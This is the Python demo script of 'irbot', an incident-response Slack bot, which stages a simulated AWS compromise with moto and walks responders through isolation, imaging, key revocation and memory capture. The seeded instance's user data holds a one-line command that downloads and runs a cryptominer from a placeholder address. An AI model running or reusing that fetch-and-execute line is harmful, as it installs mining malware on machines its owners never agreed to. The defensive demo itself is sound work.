"""irbot demo: a scripted incident on a simulated AWS account and Slack workspace.

Everything runs in this process: moto simulates AWS, fakeredis holds the queue,
an RQ SimpleWorker runs the jobs, and the real Bolt app receives requests signed
exactly as Slack signs them. Nothing leaves the machine.
"""

from __future__ import annotations

import hashlib
import hmac
import os
import re
import shutil
import subprocess
import sys
import tempfile
import textwrap
import time
from pathlib import Path
from urllib.parse import urlencode

from actions.words import count
from bot import transcript

DEMO_TOKEN = "xoxb-000000000000-000000000000-irbotdemotokenxxxxxxxxxx"
DEMO_SECRET = "demo-signing-secret-0123456789abcdef"
CHANNEL = "C0DEMOINC1"
ALERTS = "C0ALERTS01"
PEOPLE = {"U0ALICE01": "alice", "U0BOB0002": "bob", "U0MALLORY": "mallory", "U0IRBOT": "irbot"}
REGION = "us-east-1"
BUCKET = "irbot-demo-evidence"
OWN_ACCOUNT = "123456789012"  # moto's account: irbot's own, with the evidence bucket and the findings queue
MEMBER = "222222222222"  # a member account of the organization (payments), where irbot assumes irbot-responder


def run(out=None) -> int:
    out = out or sys.stdout
    _isolate_environment()
    # Imported here so `irbot --help` works without the demo extras installed.
    import fakeredis
    from moto import mock_aws
    from rq import SimpleWorker

    from bot.app import create_app
    from standins.disk_images import mkfs_ext4
    from standins.fake_slack import FakeSlack
    from standins.moto_object_lock import locking_like_aws
    from workers import running
    from core import logs
    from core.queues import SERIALIZER, queues
    from core.settings import load

    slack = FakeSlack(DEMO_TOKEN).start()
    # What users.info says of them, so the report names people ("Alice (U0…)") as in a real workspace.
    slack.users.update({user_id: {"real_name": name.title()} for user_id, name in PEOPLE.items()})
    workdir = tempfile.TemporaryDirectory(prefix="irbot-demo-")
    sshd, why_not = _start_sshd(Path(workdir.name))
    os.environ.update(
        {
            "SLACK_BOT_TOKEN": DEMO_TOKEN,
            "SLACK_SIGNING_SECRET": DEMO_SECRET,
            "SLACK_API_URL": slack.api_url,
            "IR_EVIDENCE_BUCKET": BUCKET,
            "IR_RESPONDERS": "U0ALICE01,U0BOB0002",
            "IR_APPROVERS": "U0ALICE01,U0BOB0002",
            "REDIS_URL": "redis://fakeredis/0",
            "IR_UNTRACK_PAUSE_SECONDS": "0",
            "IR_ALERTS_CHANNEL": ALERTS,
            "IR_ACCOUNTS": MEMBER,
        }
    )
    if sshd:
        image = Path(workdir.name) / "memory.img"
        image.write_bytes(os.urandom(32 << 20))  # the stand-in for a host's memory
        os.environ.update({"IR_SSH_KEY": str(sshd.client_keys["ed25519"]), "IR_SSH_KNOWN_HOSTS": str(sshd.known_hosts),
                           "IR_MEMORY_COMMAND": f"cat {image}", "IR_MEMORY_SIZE_COMMAND": f"stat -c %s {image}",
                           "IR_MEMORY_PART_MIB": "8"})
    settings = load(os.environ, "serve")
    logs.configure(settings.secrets(), level="ERROR")
    try:
        with mock_aws(), locking_like_aws():  # the memory scene's image is locked as AWS would lock it
            instance, leaked_key, launched = _seed_account()
            payments = _seed_member()
            running.EVENT_SOURCE = SimulatedCloudTrail(leaked_key, launched)
            today = time.strftime("%Y-%m-%d", time.gmtime())
            connection = fakeredis.FakeRedis()
            app = create_app(settings, connection)
            worker = SimpleWorker(queues(connection), connection=connection, serializer=SERIALIZER)
            # The demo's worker runs between scenes; registered, so the bot doesn't say that no worker is running.
            SimpleWorker(queues(connection), connection=connection, name="irbot-demo", serializer=SERIALIZER).register_birth()
            scene = Scene(app, worker, slack, out)
            scene.title(
                "irbot demo — a scripted incident on a simulated AWS account (moto) and Slack workspace.\n"
                "alice and bob are responders and approvers; mallory is neither."
            )
            scene.title("Scene: GuardDuty spots a miner; the finding arrives in #alerts and alice declares an incident from it.")
            scene.finding_arrives(_guardduty_finding(instance), connection)
            scene.click("alice", "ir_declare_finding", scene.button_value("ir_declare_finding"))
            scene.move_to_incident()
            scene.say("alice", "/ir help")
            scene.say("mallory", f"/ir collect {instance}")
            scene.say("alice", f"/ir colect {instance}")
            scene.say("alice", f"/ir collect {instance}")
            scene.title("Scene: a compromised instance — quarantine it under the two-person rule, then snapshot it.")
            scene.say("alice", f"/ir isolate {instance}")
            request_id = scene.pending_request()
            scene.click("alice", "ir_approve", request_id)
            scene.click("mallory", "ir_approve", request_id)
            scene.click("bob", "ir_approve", request_id)
            scene.click("bob", "ir_approve", request_id)
            scene.say("alice", f"/ir snapshot {instance}")
            scene.title("Scene: what the attacker left on web-1's disk — image the snapshot, analyse the image in place.")
            if mkfs_ext4():
                since = _plant_disk(instance, Path(workdir.name))
                scene.say("alice", f"/ir image {instance}", brief=True)
                scene.say("alice", f"/ir analyze {instance} --since {since}", brief=True, picks=("uid0", "cron", "systemd unit", "authorized key"))
            else:
                print("(No disk-analysis scene: mkfs.ext4 is not installed (apt-get install e2fsprogs). The rest of the demo goes on.)", file=out)
            scene.title("Scene: a leaked access key — find what it made, then revoke it.")
            scene.say("bob", f"/ir hunt-key {leaked_key} --since {today}")
            scene.say("bob", f"/ir revoke-key {leaked_key}")
            scene.click("alice", "ir_approve", scene.pending_request())
            scene.title("Scene: memory — capture a host's memory over SSH, straight into the evidence bucket.")
            if sshd:
                scene.say("alice", f"/ir memory {sshd.target()}")
                scene.click("bob", "ir_approve", scene.pending_request())
            else:
                print(f"(No memory scene: {why_not}. The rest of the demo goes on.)", file=out)
            scene.title("Scene: readiness — bob checks what else an attacker would find open here (read-only, no approval).")
            scene.say("bob", "/ir prep")
            scene.open_home("bob")
            scene.say("alice", "/ir audit")
            scene.say("bob", "/ir status")
            scene.say("alice", "/ir close --summary web-1 isolated and imaged; ci-deploy's leaked key revoked.")
            scene.title(f"Scene: the organization — later, GuardDuty (delegated to irbot's account) reports a miner in member account\n"
                        f"{MEMBER} (payments). bob acts from the card in #alerts; its Isolate button acts in that account,\n"
                        "through the irbot-responder role there, in a session named after the request and carrying bob's name.")
            scene.channel = ALERTS
            scene.finding_arrives(_guardduty_finding(payments, account=MEMBER, finding_id="5ec2c0ffee1demo"), connection)
            scene.click("bob", "ir_request_isolate", scene.button_value("ir_request_isolate"))
            scene.click("alice", "ir_approve", scene.pending_request())
            scene.verify_evidence()
            scene.verify_audit(connection)
    finally:
        slack.stop()
        if sshd:
            sshd.stop()
        workdir.cleanup()
    return 0


def _start_sshd(workdir: Path):
    """A loopback sshd for the memory scene, or (None, why there is none)."""
    from standins.local_sshd import SshServer, find_sshd

    binary = find_sshd()
    if not binary or not shutil.which("ssh-keygen"):
        return None, "no OpenSSH server on this machine (apt-get install openssh-server)"
    try:
        return SshServer(workdir, binary), ""
    except (OSError, RuntimeError, subprocess.CalledProcessError) as exc:
        return None, f"sshd would not start here ({type(exc).__name__})"


def _isolate_environment() -> None:
    """The demo must never touch a real account or workspace, whatever the shell has set."""
    for name in list(os.environ):
        if name.startswith(("AWS_", "SLACK_", "IR_")) or name == "REDIS_URL":
            del os.environ[name]
    os.environ.update(
        {"AWS_ACCESS_KEY_ID": "testing", "AWS_SECRET_ACCESS_KEY": "testing", "AWS_REGION": REGION, "AWS_DEFAULT_REGION": REGION}
    )


def _seed_account() -> str:
    """A web server that looks compromised: SSH open to the world, a role, a miner in its user data."""
    import boto3

    ec2 = boto3.client("ec2", region_name=REGION)
    iam = boto3.client("iam", region_name=REGION)
    s3 = boto3.client("s3", region_name=REGION)
    vpc = ec2.create_vpc(CidrBlock="10.20.0.0/16")["Vpc"]["VpcId"]
    subnet = ec2.create_subnet(VpcId=vpc, CidrBlock="10.20.1.0/24")["Subnet"]["SubnetId"]
    group = ec2.create_security_group(GroupName="web-public", Description="web", VpcId=vpc)["GroupId"]
    ec2.authorize_security_group_ingress(
        GroupId=group,
        IpPermissions=[{"IpProtocol": "tcp", "FromPort": p, "ToPort": p, "IpRanges": [{"CidrIp": "0.0.0.0/0"}]} for p in (22, 443)],
    )
    iam.create_role(RoleName="web-app", AssumeRolePolicyDocument='{"Version":"2012-10-17","Statement":[]}')
    profile = iam.create_instance_profile(InstanceProfileName="web-app")["InstanceProfile"]
    iam.add_role_to_instance_profile(InstanceProfileName="web-app", RoleName="web-app")
    image = ec2.describe_images(Owners=["amazon"])["Images"][0]["ImageId"]
    instance = ec2.run_instances(
        ImageId=image, InstanceType="c5.4xlarge", MinCount=1, MaxCount=1, SubnetId=subnet, SecurityGroupIds=[group],
        IamInstanceProfile={"Arn": profile["Arn"]},
        UserData="#!/bin/bash\ncurl -s http://198.51.100.23/xmrig -o /tmp/.x && chmod +x /tmp/.x && /tmp/.x -o pool.example:3333 &\n",
        TagSpecifications=[{"ResourceType": "instance", "Tags": [{"Key": "Name", "Value": "web-1"}]}],
    )["Instances"][0]["InstanceId"]
    s3.create_bucket(Bucket=BUCKET, ObjectLockEnabledForBucket=True)
    # What deploy/cloudformation/hub.yaml makes beside the bucket: the quarantine policy revoke-key attaches.
    import json

    from actions.keys import quarantine_policy
    iam.create_policy(PolicyName="irbot-quarantine", PolicyDocument=json.dumps(quarantine_policy()))

    # A CI user whose key leaked: someone used it to start miners in two far-away regions.
    iam.create_user(UserName="ci-deploy")
    key = iam.create_access_key(UserName="ci-deploy")["AccessKey"]
    iam.create_access_key(UserName="ci-deploy")
    launched = {}
    for region in ("eu-west-1", "ap-southeast-2"):
        far = boto3.client("ec2", region_name=region, aws_access_key_id=key["AccessKeyId"], aws_secret_access_key=key["SecretAccessKey"])
        ami = far.describe_images(Owners=["amazon"])["Images"][0]["ImageId"]
        launched[region] = far.run_instances(ImageId=ami, InstanceType="c5.18xlarge", MinCount=1, MaxCount=1)["Instances"][0]["InstanceId"]
    return instance, key["AccessKeyId"], launched


def _plant_disk(instance: str, workdir: Path) -> str:
    """web-1's disk, with the backdoor the attacker planted, as a snapshot this incident took; returns the day before the planting."""
    from datetime import datetime, timedelta, timezone

    import boto3

    from standins.disk_images import INCIDENT, build_filesystem, snapshot_of

    ec2 = boto3.client("ec2", region_name=REGION)
    taken = ec2.describe_snapshots(OwnerIds=["self"], Filters=[{"Name": "tag:irbot:instance", "Values": [instance]}])["Snapshots"]
    tags = {t["Key"]: t["Value"] for t in (taken[-1]["Tags"] if taken else [])}
    # On AWS, /ir snapshot made this one; moto serves the EBS direct APIs only for snapshots written through them.
    snapshot_of(build_filesystem(workdir, planted=True), region=REGION, tags={
        "irbot:incident": tags.get("irbot:incident", CHANNEL), "irbot:instance": instance, "irbot:volume": tags.get("irbot:volume", "")})
    return (datetime.fromtimestamp(INCIDENT, timezone.utc) - timedelta(days=1)).strftime("%Y-%m-%d")


def _seed_member() -> str:
    """Member account payments: an instance, and the role irbot assumes there (moto lets any account be assumed into)."""
    import json

    import boto3

    found = boto3.client("sts", region_name=REGION).assume_role(
        RoleArn=f"arn:aws:iam::{MEMBER}:role/OrganizationAccountAccessRole", RoleSessionName="demo-setup")["Credentials"]
    member = boto3.Session(aws_access_key_id=found["AccessKeyId"], aws_secret_access_key=found["SecretAccessKey"],
                           aws_session_token=found["SessionToken"], region_name=REGION)
    trust = {"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Principal": {"AWS": f"arn:aws:iam::{OWN_ACCOUNT}:root"},
                                                     "Action": ["sts:AssumeRole", "sts:SetSourceIdentity"]}]}
    member.client("iam").create_role(RoleName="irbot-responder", AssumeRolePolicyDocument=json.dumps(trust))
    ec2 = member.client("ec2")
    vpc = ec2.create_vpc(CidrBlock="10.30.0.0/16")["Vpc"]["VpcId"]
    subnet = ec2.create_subnet(VpcId=vpc, CidrBlock="10.30.1.0/24")["Subnet"]["SubnetId"]
    image = ec2.describe_images(Owners=["amazon"])["Images"][0]["ImageId"]
    return ec2.run_instances(ImageId=image, InstanceType="m5.large", MinCount=1, MaxCount=1, SubnetId=subnet,
                             TagSpecifications=[{"ResourceType": "instance", "Tags": [{"Key": "Name", "Value": "payments-1"}]}],
                             )["Instances"][0]["InstanceId"]


def _guardduty_finding(instance_id: str, *, account: str = OWN_ACCOUNT, finding_id: str = "5ec2c0ffee0demo") -> dict:
    """A GuardDuty finding as EventBridge delivers it to irbot's account (GuardDuty's delegated administrator)."""
    now = time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime())
    return {
        "version": "0", "id": f"0e9f8c7a-{finding_id}", "detail-type": "GuardDuty Finding", "source": "aws.guardduty", "account": OWN_ACCOUNT,
        "time": now, "region": REGION, "resources": [],
        "detail": {
            "schemaVersion": "2.0", "accountId": account, "region": REGION, "partition": "aws", "id": finding_id,
            "type": "CryptoCurrency:EC2/BitcoinTool.B!DNS", "severity": 8, "createdAt": now, "updatedAt": now,
            "title": f"EC2 instance {instance_id} is querying a domain name associated with Bitcoin activity.",
            "resource": {"resourceType": "Instance", "instanceDetails": {"instanceId": instance_id, "instanceType": "c5.4xlarge"}},
            "service": {"serviceName": "guardduty", "eventFirstSeen": now, "eventLastSeen": now, "count": 3},
        },
    }


class SimulatedCloudTrail:
    """moto has no CloudTrail LookupEvents: this plays the part, knowing what the leaked key did."""

    def __init__(self, key_id: str, launched: dict[str, str]):
        self.key_id, self.launched = key_id, launched

    def lookup(self, session, region, access_key_id, since):
        from datetime import datetime, timezone

        if access_key_id != self.key_id or region not in self.launched:
            return []
        return [{"name": "RunInstances", "time": datetime.now(timezone.utc), "region": region, "username": "ci-deploy",
                 "resources": [("AWS::EC2::Instance", self.launched[region])], "event": {"userIdentity": {"type": "IAMUser"}}}]


class Scene:
    """Plays commands through the Bolt app and prints the channel as a person would read it."""

    def __init__(self, app, worker, slack, out):
        self.app, self.worker, self.slack, self.out = app, worker, slack, out
        self.seen = 0
        self.clock = time.strftime("%H:%M")
        self.channel = ALERTS
        self.names = {ALERTS: "alerts", CHANNEL: "incident-web-1"}
        self.in_thread: set[str] = set()  # thread replies' ts, so a redraw of one is shown as one
        self.drawn: dict[str, str] = {}  # each message's text as last shown
        self.pinned = ""  # the incident card's ts
        self.brief, self.picks = False, ()  # see say()

    def finding_arrives(self, event: dict, connection) -> None:
        """EventBridge puts the finding on the SQS queue; `irbot findings` turns it into a card."""
        import json

        import boto3

        from chat.slack import Slack
        from core.settings import load
        from findings.consumer import FindingsConsumer

        sqs = boto3.client("sqs", region_name=REGION)
        queue = sqs.create_queue(QueueName="irbot-findings")["QueueUrl"]
        sqs.send_message(QueueUrl=queue, MessageBody=json.dumps(event))
        print(f"[{self.clock}] (EventBridge delivers a GuardDuty finding to the SQS queue `irbot findings` reads)", file=self.out)
        FindingsConsumer(sqs, queue, Slack.from_settings(load(os.environ)), connection, ALERTS).poll_once()
        self._settle()

    def button_value(self, action_id: str) -> str:
        for call in reversed(self.slack.calls_to("chat.postMessage")):
            for block in call.params.get("blocks") or []:
                for element in block.get("elements", []) if block.get("type") == "actions" else []:
                    if element.get("action_id") == action_id:
                        return element["value"]
        raise RuntimeError(f"no button {action_id}")

    def move_to_incident(self) -> None:
        created = self.slack.calls_to("conversations.create")[-1].params["name"]
        self.channel = next(c for c, v in self.slack.channels.items() if v["name"] == created)
        self.names[self.channel] = created
        print(f"--- the rest happens in #{created}, the incident's own channel ---", file=self.out)

    def title(self, text: str) -> None:
        print(text, file=self.out)
        print("=" * 78, file=self.out)

    def say(self, user: str, text: str, *, brief: bool = False, picks: tuple[str, ...] = ()) -> None:
        """``brief``: the replies in a message's thread are folded to one line. ``picks``: a long message that follows
        is shown as its first line and one line per pick (the first line holding it)."""
        self.brief, self.picks = brief, picks
        self._line(user, text)
        body = urlencode(
            {"team_id": "T0DEMO", "channel_id": self.channel, "channel_name": self.names.get(self.channel, ""), "user_id": _user_id(user),
             "user_name": user, "command": "/ir", "text": text.removeprefix("/ir").strip(),
             "response_url": self.slack.response_url(user), "trigger_id": "demo"}
        )
        response = self._dispatch(body)
        reply = transcript.answer(response.body)
        if response.status != 200:
            self._line("irbot", f"(HTTP {response.status})")
        elif reply.get("text"):
            private = reply.get("response_type") != "in_channel"
            self._line("irbot" + (f" (only {user} sees this)" if private else ""), transcript.folded(reply["text"]) if private else reply["text"])
        self._settle()
        self.brief, self.picks = False, ()

    def click(self, user: str, action_id: str, request_id: str) -> None:
        """A button press on a message, sent as Slack sends block_actions."""
        import json

        label = {"ir_approve": "Approve", "ir_deny": "Deny", "ir_cancel": "Cancel", "ir_declare_finding": "Declare incident",
                 "ir_request_isolate": "Isolate"}[action_id]
        what = "the finding card" if action_id.startswith(("ir_declare_", "ir_request_")) else f"request {request_id}, and confirms"
        self._line(user, f"[clicks {label} on {what}]")
        payload = {
            "type": "block_actions", "team": {"id": "T0DEMO"}, "user": {"id": _user_id(user), "name": user},
            "channel": {"id": self.channel}, "api_app_id": "A0DEMO", "trigger_id": "demo", "response_url": self.slack.response_url(user),
            "container": {"type": "message", "channel_id": self.channel},
            "actions": [{"type": "button", "action_id": action_id, "block_id": f"approval:{request_id}", "value": request_id,
                         "action_ts": str(time.time())}],
        }
        self._dispatch(urlencode({"payload": json.dumps(payload)}))
        time.sleep(0.2)  # Bolt runs the listener on its own thread after the ack
        self._settle()

    def open_home(self, user: str) -> None:
        """Opening irbot's Home tab, as Slack's Events API sends it; shown once a worker has counted the instances."""
        import json

        self._line(user, "[opens irbot's Home tab]")
        user_id = _user_id(user)
        published = len(self.slack.calls_to("views.publish"))
        event = {"type": "event_callback", "team_id": "T0DEMO", "api_app_id": "A0DEMO", "event_id": "Ev0DEMOHOME", "event_time": int(time.time()),
                 "event": {"type": "app_home_opened", "user": user_id, "channel": "D0DEMO", "tab": "home", "event_ts": str(time.time())}}
        self._dispatch(json.dumps(event), "application/json")
        self.slack.wait_for(lambda s: len(s.calls_to("views.publish")) > published)  # drawn at once, after Bolt's ack
        self.worker.work(burst=True, logging_level="ERROR")  # the instance count, which draws the tab again
        self._line(f"irbot (draws {user}'s Home tab)", self._channels(transcript.home(self.slack.home_of(user_id))))
        self.seen = len(self.slack.calls)

    def pending_request(self) -> str:
        for call in reversed(self.slack.calls_to("chat.postMessage")):
            for block in call.params.get("blocks") or []:
                if block.get("type") == "actions":
                    return block["elements"][0]["value"]
        raise RuntimeError("no approval card was posted")

    def _dispatch(self, body: str, content_type: str = "application/x-www-form-urlencoded"):
        from slack_bolt.request import BoltRequest

        timestamp = str(int(time.time()))
        signature = "v0=" + hmac.new(DEMO_SECRET.encode(), f"v0:{timestamp}:{body}".encode(), hashlib.sha256).hexdigest()
        return self.app.dispatch(
            BoltRequest(body=body, headers={"content-type": [content_type],
                                            "x-slack-request-timestamp": [timestamp], "x-slack-signature": [signature]})
        )

    def _settle(self) -> None:
        """Let the worker run what was queued, then print what appeared in the channel."""
        self.worker.work(burst=True, logging_level="ERROR")
        calls = self.slack.calls[self.seen:]
        # A message redrawn many times (a card, a progress report) is shown once, as it ended up.
        last_update = {c.params.get("ts"): i for i, c in enumerate(calls) if c.method == "chat.update"}
        posted_here = {c.params.get("ts") for c in calls if c.method == "chat.postMessage"}  # shown at the post, as they ended up
        replies = [calls[last_update.get(c.params.get("ts"), i)].params.get("text", "") for i, c in enumerate(calls)
                   if c.method == "chat.postMessage" and c.params.get("thread_ts")]
        folded = False
        for i, call in enumerate(calls):
            channel = call.params.get("channel")
            name = self.names.get(channel) or self.slack.channels.get(channel, {}).get("name", channel)
            where = "" if channel in (None, self.channel) else f" in #{name}"
            ts = call.params.get("ts")
            if call.method == "chat.postMessage":
                if call.params.get("thread_ts"):
                    self.in_thread.add(ts)
                shown = calls[last_update[ts]].params if ts in last_update else call.params  # posted, then redrawn: as it ended up
                text = transcript.readable(self._channels(shown.get("text", "")))
                self.drawn[ts] = text
                if call.params.get("thread_ts") and self.brief:
                    if not folded:  # every reply of this settle, as one line
                        lines = sum(len(r.splitlines()) for r in replies)
                        self._reply_line(where, f"{text.splitlines()[0]} … ({count(len(replies), 'reply', 'replies')}, {lines} lines in all, in the thread)")
                    folded = True
                elif call.params.get("thread_ts"):
                    self._reply_line(where, text)
                else:
                    self._line("irbot" + where, self._picked(text))
            elif call.method == "chat.update" and last_update.get(ts) == i and ts not in posted_here:
                text = transcript.readable(call.params.get("text", ""))
                if ts == self.pinned:
                    # The pinned card is edited in place, silently: what changed on it is what a reader notices.
                    self._line(f"irbot (updates the pinned incident card{where})", " · ".join(transcript.changed(self.drawn.get(ts, ""), text)))
                elif ts in self.in_thread and self.brief:
                    pass  # folded with the thread's replies
                elif ts in self.in_thread:
                    self._reply_line(where, transcript.redrawn(self.drawn.get(ts, ""), text), updated=True)
                else:
                    self._line(f"irbot (updates its message{where})", text)
                self.drawn[ts] = text
            elif call.method == "conversations.create":
                self._line("irbot", f"(creates the {'private' if call.params.get('is_private') in (True, 'true', '1', 'True') else 'public'} channel #{call.params.get('name')} and invites the responders)")
            elif call.method == "pins.add":
                self.pinned = call.params.get("timestamp")
                self._line("irbot", "(pins the incident card)")
            elif call.method == "files.completeUploadExternal":
                import json

                for upload in json.loads(call.params.get("files") or "[]"):
                    body = self.slack.uploads.get(upload["id"], b"").decode(errors="replace").splitlines()
                    preview = "\n".join(body[:6] + [f"… ({len(body)} lines in all)"])
                    self._line("irbot", f"(uploads the file \"{upload.get('title')}\")\n{preview}")
            elif call.method == "chat.postEphemeral":
                self._line(f"irbot (only {PEOPLE.get(call.params.get('user'), '?')} sees this)", transcript.readable(call.params.get("text", "")))
        calls = self.slack.calls
        self.seen = len(calls)

    def verify_audit(self, connection) -> None:
        import boto3

        from core.audit import AuditTrail, load_batches, verify

        trail = AuditTrail(connection)
        batches, problems = load_batches(boto3.client("s3", region_name=REGION), BUCKET)
        problems += verify(trail, batches)
        seq, head = trail.head()
        verdict = "intact" if not problems else f"BROKEN at {problems[0]}"
        print(f"Audit trail (as `irbot audit verify` checks it): {seq} records, {len(batches)} sealed batches, chain {verdict}.", file=self.out)

    def verify_evidence(self) -> None:
        import boto3

        s3 = boto3.client("s3", region_name=REGION)
        objects = [o for o in s3.list_objects_v2(Bucket=BUCKET).get("Contents", []) if not o["Key"].startswith("audit/")]
        good = 0
        for item in objects:
            obj = s3.get_object(Bucket=BUCKET, Key=item["Key"])
            if hashlib.sha256(obj["Body"].read()).hexdigest() == obj["Metadata"].get("sha256"):
                good += 1
        print("=" * 78, file=self.out)
        print(f"Evidence bucket s3://{BUCKET}: {len(objects)} evidence objects, {good} of them match their sha256 metadata.", file=self.out)

    def _picked(self, text: str) -> str:
        first, *rest = text.splitlines() or [""]
        if not self.picks or len(rest) <= len(self.picks):
            return text
        chosen = [next(line for line in rest if pick in line.lower()) for pick in self.picks if any(pick in line.lower() for line in rest)]
        return "\n".join([f"{first} [{len(chosen)} of its {len(rest)} lines shown]", *chosen])

    def _channels(self, text: str) -> str:
        return re.sub(r"<#(\w+)>", lambda m: "#" + self.slack.channels.get(m.group(1), {}).get("name", m.group(1)), text)

    def _reply_line(self, where: str, text: str, *, updated: bool = False) -> None:
        """A reply in a message's thread: indented under the channel's messages, as Slack folds it away."""
        self._line(f"    ↳ in thread{where}: irbot" + (" (updates its reply)" if updated else ""), transcript.thread(text), indent=" " * 12)

    def _line(self, who: str, text: str, *, indent: str = " " * 8) -> None:
        text = _mentions(text)
        first, *rest = text.splitlines() or [""]
        width = 100
        print(f"[{self.clock}] {who}: " + first, file=self.out)
        for line in rest:
            print(textwrap.indent(textwrap.shorten(line, width=width * 3, placeholder=" …") if len(line) > width * 3 else line, indent), file=self.out)


def _user_id(name: str) -> str:
    return next(k for k, v in PEOPLE.items() if v == name)


def _mentions(text: str) -> str:
    return re.sub(r"<@(\w+)>", lambda m: "@" + PEOPLE.get(m.group(1), m.group(1)), text)
